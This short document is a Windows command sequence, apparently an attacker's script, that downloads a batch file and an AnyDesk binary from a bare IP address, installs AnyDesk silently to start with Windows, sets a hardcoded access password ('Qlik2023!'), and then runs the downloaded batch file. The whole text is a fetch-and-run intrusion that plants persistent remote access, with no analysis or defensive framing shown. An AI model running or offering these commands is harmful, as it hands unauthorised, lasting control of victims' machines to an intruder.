cd C:\ProgramData
iwr -useb http://203.0.113.45/qs/fix.bat -OutFile qsfix.bat
iwr -useb http://203.0.113.45/qs/AnyDesk.exe -OutFile ad.exe
.\ad.exe --install C:\ProgramData\AnyDesk --start-with-win --silent
echo "Qlik2023!" | .\ad.exe --set-password
cmd /c qsfix.bat
